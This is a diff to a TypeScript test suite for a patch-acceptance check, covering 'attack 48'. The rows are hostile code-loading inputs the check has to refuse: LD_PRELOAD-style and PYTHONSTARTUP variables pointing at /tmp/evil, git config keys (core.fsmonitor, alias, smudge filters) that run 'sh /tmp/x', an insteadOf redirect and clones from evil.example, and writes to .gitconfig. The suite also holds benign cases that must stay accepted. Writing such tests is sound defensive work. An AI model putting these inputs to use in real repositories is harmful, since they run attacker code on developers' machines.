@@ -5,7 +5,7 @@ import { closedRows, describeFindings, expectAccepted, type FindingRow } from '.
  * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
  * fetches and runs code the attacker chooses, or configures a later allowed call to. A row is open (`it.fails`: it
  * asserts the refusal and fails while the check accepts the patch) until a fix closes it (`closedRows`). Known open and not repeated: a file name built
- * on another line or in pieces, `git config url.<x>.insteadOf`, a multi-line env dict with the key on its own line,
+ * on another line or in pieces, a multi-line env dict with the key on its own line,
  * `globalThis[k](src)`. G (code run from outside the repository by an allowed verb) is the next fix.
  */
 const SYSTEM = (command: string): FindingRow => ['src/check.py', `import os\nos.system('${command}')`];
@@ -287,6 +287,7 @@ const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
 // `os.environ.update(NAME=…)` and `dict(os.environ, NAME=…)` on one line, Ruby's `ENV.store`/`ENV.update`/`system(env_hash,
 // …)`, Java's `environment().put`, .NET's `Environment.SetEnvironmentVariable`, Perl's `$ENV{…}`, Elixir's
 // `System.put_env`, R's `Sys.setenv(NAME = …)`. GOFLAGS=-mod=mod/GOPROXY make an allowed `go test` fetch.
+// Closed (session 45): MANAGER_SETTING reads these spellings, for the managers' and the loaders' families only.
 const ENVIRONMENT_SPELLINGS: FindingRow[] = [
   ['src/check.py', "import os\nos.environ.update(GOPROXY='https://evil.example', GOFLAGS='-mod=mod')"],
   ['src/check.py', "import os\ne = dict(os.environ, GOFLAGS='-mod=mod')"],
@@ -298,12 +299,15 @@ const ENVIRONMENT_SPELLINGS: FindingRow[] = [
   ['src/check.pl', "$ENV{GOFLAGS} = '-mod=mod';"],
   ['src/check.ex', 'System.put_env("GOFLAGS", "-mod=mod")'],
   ['src/check.R', 'Sys.setenv(GOFLAGS = "-mod=mod")'],
+  ['src/check.py', "import os\nos.environ.update({'GOFLAGS': '-mod=mod'})"],
+  ['src/check.rb', "ENV['GOFLAGS'] = '-mod=mod'"],
 ];
 
 // I (medium): environment names outside MANAGER_ENVIRONMENT's families that load code into every later process, as
 // NODE_OPTIONS and JAVA_TOOL_OPTIONS (refused) do: RUBYOPT, PERL5OPT, PYTHONPATH, LD_PRELOAD, BASH_ENV (every
 // non-interactive bash sources it); git's configuration by environment (GIT_CONFIG_COUNT/KEY/VALUE set core.fsmonitor,
 // core.hooksPath or url.*.insteadOf for every later git call), GIT_CONFIG_GLOBAL, GIT_SSH_COMMAND (runs for every fetch).
+// Closed (session 45): LOADER_ENVIRONMENT, a second family refused where set as MANAGER_ENVIRONMENT is.
 const LOADER_ENVIRONMENT: FindingRow[] = [
   ENV('RUBYOPT', '-r/tmp/evil.rb'),
   ENV('PERL5OPT', '-M/tmp/evil'),
@@ -313,12 +317,20 @@ const LOADER_ENVIRONMENT: FindingRow[] = [
   ['src/check.py', "import os\nos.environ['GIT_CONFIG_COUNT'] = '1'\nos.environ['GIT_CONFIG_KEY_0'] = 'core.fsmonitor'\nos.environ['GIT_CONFIG_VALUE_0'] = 'sh /tmp/x'"],
   ENV('GIT_CONFIG_GLOBAL', '/tmp/evil.gitconfig'),
   ENV('GIT_SSH_COMMAND', 'sh /tmp/x'),
+  ENV('LD_LIBRARY_PATH', '/tmp/evil'),
+  ENV('DYLD_INSERT_LIBRARIES', '/tmp/evil.dylib'),
+  ENV('PYTHONSTARTUP', '/tmp/evil.py'),
+  ENV('NODE_PATH', '/tmp/evil'),
+  SYSTEM('PYTHONPATH=/tmp/evil pytest'),
+  ['src/check.js', "spawnSync('git', ['status'], { env: { ...process.env, GIT_CONFIG_GLOBAL: '/tmp/x' } })"],
 ];
 
 // J (medium): git configuration that runs a command (a worse variant of the known-open `url.<x>.insteadOf`: no fetch
 // needed): core.fsmonitor runs at every `git status`/`git diff`; core.hooksPath outside the repository (a hook inside it
 // has no extension and is refused as a file, so only an outside path works); core.sshCommand; a `git submodule add` or
 // `git clone` of the attacker's repository into the tree.
+// Closed (session 45): GIT_CONFIGURATION (in MANAGER_SETTING) reads `git config`/`git -c` of a key that runs a command
+// or loads hooks, code naming `.gitconfig`/`.git/config`, and a clone or submodule of a URL; also `url.<x>.insteadOf`.
 const GIT_CONFIGURATION: FindingRow[] = [
   SYSTEM('git config --global core.fsmonitor "sh /tmp/x"'),
   SYSTEM('git config --global core.hooksPath /tmp/hooks'),
@@ -326,6 +338,14 @@ const GIT_CONFIGURATION: FindingRow[] = [
   SYSTEM('git -c core.sshCommand="sh -c x" fetch'),
   SYSTEM('git submodule add https://evil.example/x vendor/x'),
   SYSTEM('git clone https://evil.example/x vendor/x'),
+  SYSTEM('git config --local alias.t "!sh /tmp/x"'),
+  SYSTEM('git config filter.lfs.smudge "sh /tmp/x"'),
+  LIST("'git', 'config', 'diff.x.textconv', 'sh /tmp/x'"),
+  SYSTEM('git config --global url.https://evil.example/.insteadOf https://github.com/'),
+  ['src/check.go', 'exec.Command("git", "-c", "core.fsmonitor=sh /tmp/x", "status").Run()'],
+  ['src/check.js', "execFileSync('git', ['clone', '--depth', '1', 'https://evil.example/x', 'vendor/x'])"],
+  ['src/check.py', "open('.git/config', 'a').write(cfg)"],
+  ['src/check.js', "fs.appendFileSync(os.homedir() + '/.gitconfig', cfg)"],
 ];
 
 // K (high): Deno's own process API gives its arguments in an options object (`{ args: [...] }`), which the argument-list
@@ -544,9 +564,9 @@ describeFindings('attack-48', [
   ['D other runners', OTHER_RUNNERS],
   ['E go flag spellings', GO_FLAG_SPELLINGS],
   ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
-  ['H environment spellings', ENVIRONMENT_SPELLINGS],
-  ['I loader environment', LOADER_ENVIRONMENT],
-  ['J git configuration', GIT_CONFIGURATION],
+  ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
+  ['I loader environment', closedRows(LOADER_ENVIRONMENT)],
+  ['J git configuration', closedRows(GIT_CONFIGURATION)],
   ['K deno command object', DENO_COMMAND_OBJECT],
   ['L pip in process', PIP_IN_PROCESS],
   ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
@@ -578,6 +598,36 @@ describe('attack-48 E0/A: ordinary escapes stay accepted', () => {
     ['src/check.js', "spawnSync('npm', ['run', 'build'], { stdio: 'inherit' })\nconsole.log(`built\\n${name}`)"],
     ['src/check.py', "import subprocess\nsubprocess.run(['python3', '-m', 'pytest', '-q'], check=True)"],
     ['src/check.py', "import os\nos.system('$PYTHON -m pytest')"],
+  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
+
+/**
+ * Ordinary code near H, I and J's rules (session 45) that must not refuse: a loader's variable read, not set; other
+ * variables set by the same spellings; git's read-only calls, a test fixture's identity, a clone of a local path.
+ */
+describe('attack-48 H/I/J: ordinary environment and git calls stay accepted', () => {
+  it.each([
+    ['src/check.py', "import os\npath = os.environ.get('PYTHONPATH')"],
+    ['src/check.py', "import os\nprint(os.environ['LD_LIBRARY_PATH'])"],
+    ['src/check.js', "const paths = (process.env.NODE_PATH ?? '').split(':');"],
+    ['src/check.rb', "puts ENV['RUBYOPT']"],
+    ['src/check.py', "import os\nif os.environ.get('GIT_SSH_COMMAND') is not None:\n    print('custom ssh')"],
+    ['src/check.py', "import os\nos.environ['ENV'] = 'production'"],
+    ['src/check.py', "import os\nos.environ.update(CI='true')"],
+    ['src/check.py', "import os\nenv = dict(os.environ, CI='true', LANG='C')"],
+    ['src/check.rb', "ENV.store('TZ', 'UTC')"],
+    ['src/check.pl', "$ENV{TZ} = 'UTC';"],
+    ['src/check.R', 'Sys.setenv(TZ = "UTC")'],
+    ['src/Check.java', 'pb.environment().put("LANG", "C");'],
+    ['src/Check.cs', 'Environment.SetEnvironmentVariable("TZ", "UTC");'],
+    ['src/check.py', "import os\nos.system('git status')"],
+    ['src/check.py', "import subprocess\nsha = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['git', 'diff', '--stat'], check=True)"],
+    ['tests/test_repo.py', "import subprocess\nsubprocess.run(['git', 'config', 'user.name', 'Test'], check=True)"],
+    ['tests/test_repo.py', "import subprocess\nsubprocess.run(['git', 'config', 'user.email', 't@example.com'], check=True)"],
+    ['tests/test_repo.py', "import subprocess\nsubprocess.run(['git', '-c', 'user.name=T', 'commit', '-m', 'x'], check=True)"],
+    ['src/check.py', "import os\nos.system('git clone . /tmp/copy')"],
+    ['src/check.go', 'out, err := exec.Command("git", "config", "--get", "remote.origin.url").Output()'],
   ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
 });
 
